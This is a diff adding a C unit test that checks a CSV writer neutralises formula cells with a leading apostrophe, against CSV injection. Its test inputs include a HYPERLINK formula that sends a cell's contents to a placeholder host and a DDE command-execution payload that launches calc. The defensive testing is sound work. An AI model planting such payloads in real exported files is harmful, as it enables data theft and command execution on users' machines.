@@ -199,6 +199,41 @@ static void test_add_field(void **state)
 	buf_free(&b);
 }
 
+/* OWASP CSV injection: a cell a spreadsheet would evaluate starts with an
+ * apostrophe, and still reads back as one field. */
+static void test_formula_cells(void **state)
+{
+	static const char *const in[] = {"=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1+2", "-2+3+cmd|' /C calc'!A0",
+					 "@SUM(A1)", "\tlead", "\rlead", "a=b", "'kept", "张伟"};
+	static const char *const back[] = {"'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'+1+2",
+					   "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1)", "'\tlead", "'\rlead", "a=b",
+					   "'kept", "张伟"};
+	size_t n = sizeof in / sizeof in[0];
+	csv_table t;
+	buf b;
+	(void)state;
+	buf_init(&b, 0);
+	for (size_t i = 0; i < n; i++) {
+		if (i)
+			buf_adds(&b, ",");
+		assert_int_equal(csv_add_field(&b, in[i]), 0);
+	}
+	assert_non_null(strstr(b.data, "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""));
+	assert_non_null(strstr(b.data, ",'+1+2,"));
+	parse_ok(b.data, &t);
+	assert_int_equal(t.nrows, 1);
+	assert_int_equal(t.ncols[0], n);
+	for (size_t i = 0; i < n; i++)
+		assert_string_equal(t.rows[0][i], back[i]);
+	csv_table_free(&t);
+	buf_free(&b);
+
+	/* The apostrophe counts against the cap like any byte. */
+	buf_init(&b, 3);
+	assert_int_equal(csv_add_field(&b, "=ab"), -1);
+	buf_free(&b);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -209,6 +244,7 @@ int main(void)
 		cmocka_unit_test(test_errors_name_line),
 		cmocka_unit_test(test_caps),
 		cmocka_unit_test(test_add_field),
+		cmocka_unit_test(test_formula_cells),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
